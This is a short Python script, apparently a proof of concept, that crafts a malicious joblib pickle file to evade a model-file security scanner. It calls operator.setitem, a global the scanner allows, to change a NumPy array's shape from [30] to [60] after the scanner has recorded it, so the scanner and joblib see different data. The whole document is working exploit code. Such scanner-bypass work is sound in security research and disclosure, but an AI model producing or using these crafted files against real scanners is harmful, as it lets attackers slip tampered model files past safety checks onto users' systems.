from common import *
# operator.setitem (a global the default policy accepts) changes the shape list in place
# after the scanner has recorded it: the scanner's graph keeps shape [30], joblib reads [60].
N=30
shape = b']'+I(N)+b'aq\x00'                      # list [30], memo 0
mut = G('operator','setitem')+b'(h\x00K\x00K\x3ctR0'  # setitem(shape, 0, 60); POP
W = G('joblib.numpy_pickle','NumpyArrayWrapper')+b'('+G('numpy','ndarray')+b'h\x00'+U('C')+dtype('u1')+b'\x89NtR}b'
run('b2.joblib', b'\x80\x02'+shape+mut+W+region(60,[0,N]))
